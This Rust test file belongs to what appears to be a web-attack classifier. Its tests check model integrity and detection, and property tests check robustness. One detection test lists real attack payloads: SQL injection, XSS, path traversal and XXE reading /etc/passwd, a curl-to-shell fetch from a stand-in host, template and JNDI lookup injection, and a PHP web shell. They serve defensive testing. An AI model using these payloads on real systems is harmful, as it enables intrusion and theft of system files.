//! Laws that hold whatever the weights are, and the shipped file.

use super::*;
use proptest::prelude::*;

/// Where one n-gram weighs something.
fn toy() -> Classifier {
    let mut model = Model::empty(1);
    // The end of a text weighs something, too.
    model.bias = -150;
    walk(b"/etc/passwd", |_, feature| model.weights[feature] = 100);
    model.anchors = [[-40, -30, -20, -10]; Field::ALL.len()];
    Classifier::of(model)
}

#[test]
fn the_shipped_model_is_whole_and_scores_as_where_it_was_made() {
    let classifier = Classifier::shipped();
    assert_eq!(classifier.verify(), Ok(64));
    assert!(include_bytes!("../classifier.wfm").len() <= 256 * 1024);
    for field in Field::ALL {
        let points = [10.0, 100.0, 1e3, 1e4].map(|n| classifier.threshold(field, n));
        assert!(points.is_sorted(), "{field:?} {points:?}");
    }
}

#[test]
fn the_shipped_model_knows_attacks_from_what_people_write() {
    let classifier = Classifier::shipped();
    let mut scratch = Scratch::default();
    let mut judge = |text: &str| {
        let score = classifier.score(Field::of_value(text.as_bytes()), text.as_bytes(), &mut scratch);
        let class = classifier.class(text.as_bytes(), &score, &mut scratch);
        (score.one_in >= 1e3, class, score)
    };
    for (text, class) in [
        ("' or 1=1-- -", "sql_injection"),
        ("1' union/**/select null,version()#", "sql_injection"),
        ("<svg/onload=alert(1)>", "xss"),
        ("../../../../etc/passwd", "path_traversal"),
        (";cat$ifs/etc/passwd", "command_injection"),
        ("`curl http://x.example/a|sh`", "command_injection"),
        ("{{''.__class__.__mro__[1].__subclasses__()}}", "template_injection"),
        ("<!doctype a [<!entity x system \"file:///etc/passwd\">]>", "xxe"),
        ("${${lower:j}ndi:ldap://x.example/a}", "lookup_injection"),
        ("<?php system($_get['c']); ?>", "php_injection"),
        ("require('child_process').execsync('id')", "node_injection"),
    ] {
        let (found, called, score) = judge(text);
        assert!(found && called == class, "{text}: {called} {score:?}");
    }
    for text in [
        "o'brien",
        "d'artagnan & sons",
        "select from the menu or drop by our office, and we will update the table",
        "how to join two tables in sql",
        "rock & roll; it's only 5 < 6",
        "https://www.example.org/blog/hello?page=2#comments",
        "mozilla/5.0 (windows nt 10.0; win64; x64) applewebkit/537.36",
        "the script of the play, and an alert reader",
        "<p>some <b>bold</b> words</p>",
        "c++ or java?",
    ] {
        let (found, called, score) = judge(text);
        assert!(!found, "{text}: {called} {score:?}");
    }
}

#[test]
fn a_file_is_read_back_and_refused_where_it_should_be() {
    let mut model = Model::empty(7);
    model.manifest = "a list  3 rows\n".to_owned();
    model.golden = vec![Golden { field: Field::Json, plain: b"a=b".to_vec(), points: 0, class: 0 }];
    let bytes = model.write();
    let read = Model::read(&bytes).unwrap();
    assert_eq!((read.seed, read.manifest, read.golden.len()), (7, model.manifest, 1));
    assert_eq!(Model::read(b"ELF").unwrap_err(), Unreadable::NoModel);
    assert_eq!(Model::read(&bytes[..bytes.len() - 1]).unwrap_err(), Unreadable::Damaged);
    let mut damaged = bytes.clone();
    damaged[3_000] ^= 1;
    assert_eq!(Model::read(&damaged).unwrap_err(), Unreadable::Damaged);
    let mut later = bytes.clone();
    later[4] = 9;
    assert_eq!(Model::read(&later).unwrap_err(), Unreadable::Version(9));
    let mut other = bytes;
    other[10] ^= 1;
    let end = other.len() - 32;
    let sum = <sha2::Sha256 as sha2::Digest>::digest(&other[..end]);
    other[end..].copy_from_slice(&sum);
    let error = Model::read(&other).unwrap_err();
    assert_eq!(error, Unreadable::Features);
    assert!(error.to_string().contains("watchfloor model train"));
}

#[test]
fn padding_hides_nothing_and_the_span_is_the_payload() {
    let classifier = toy();
    let mut scratch = Scratch::default();
    for before in [0, 31, 64, 300] {
        let text = format!("{}/etc/passwd{}", "some words ".repeat(before / 11), " more of it".repeat(30));
        let score = classifier.score(Field::Text, text.as_bytes(), &mut scratch);
        assert!(score.points > 1_000, "{before}: {}", score.points);
        assert!(text[score.window.clone()].contains("/etc/passwd"));
        let spans = classifier.explain(-20, text.as_bytes(), &mut scratch);
        assert!(spans.iter().any(|s| text[s.clone()].contains("/etc/passwd")), "{spans:?}");
    }
    assert!(classifier.explain(-20, b"nothing to see here", &mut scratch).is_empty());
}

#[test]
fn the_heaviest_run_is_found() {
    assert_eq!(heaviest(&[-1, 2, 3, -9, 4]), (1, 3));
    assert_eq!(heaviest(&[-3, -1, -2]), (1, 2));
    assert_eq!(heaviest(&[]), (0, 0));
}

proptest! {
    #[test]
    fn any_bytes_are_scored_and_explained_within_the_text(plain in prop::collection::vec(any::<u8>(), 0..400)) {
        let classifier = toy();
        let mut scratch = Scratch::default();
        let score = classifier.score(Field::Query, &plain, &mut scratch);
        prop_assert!(score.window.start <= score.window.end && score.window.end <= plain.len());
        prop_assert!(score.one_in >= 1.0);
        for span in classifier.explain(-50, &plain, &mut scratch) {
            prop_assert!(span.start < span.end && span.end <= plain.len());
        }
        // The scratch of another text changes nothing.
        classifier.score(Field::Text, &b"x y z ".repeat(100), &mut scratch);
        prop_assert_eq!(classifier.score(Field::Query, &plain, &mut scratch), score);
    }

    #[test]
    fn any_bytes_are_no_model_and_no_panic(bytes in prop::collection::vec(any::<u8>(), 0..200)) {
        let mut bytes = bytes;
        prop_assert!(Model::read(&bytes).is_err());
        bytes.splice(0..0, *b"WFRC\x01\x00");
        prop_assert!(Model::read(&bytes).is_err());
    }
}
